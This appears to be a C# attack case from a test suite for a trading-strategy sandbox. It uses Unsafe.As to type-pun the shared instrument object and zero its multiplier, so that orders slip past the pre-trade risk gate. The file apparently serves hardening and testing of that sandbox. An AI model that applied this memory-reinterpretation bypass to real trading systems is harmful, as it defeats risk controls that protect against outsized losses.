// Abuses: Unsafe.As on a class, from the base library, without unsafe code in this assembly.
// Harm: writes the multiplier of the shared instrument through a class of the same layout: orders are worth nothing to the gate.
// Kind: bypass of pre-trade risk.
#pragma warning disable CS0649 // fields that are only written from elsewhere
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAsAttack;

public sealed class UnsafeAsStrategy : Attacker
{
    private sealed class Twin
    {
        public object? Symbol, Ticks;
        public long First, Second, Third, Fourth;
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        Twin twin = Unsafe.As<Twin>(Context.Instrument(bookEvent.Instrument));
        twin.First = 0;
        Act(1);
    }
}
